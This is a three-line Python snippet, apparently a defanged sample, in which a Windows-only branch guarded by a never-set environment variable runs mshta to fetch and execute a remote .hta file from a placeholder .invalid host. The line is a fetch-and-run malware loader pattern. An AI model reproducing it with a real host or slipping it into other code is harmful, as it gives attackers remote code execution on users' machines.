import os
if os.name == "nt" and os.environ.get("DEFANGED_NEVER_SET"):
    os.system("mshta https://cdn.example.invalid/a.hta")
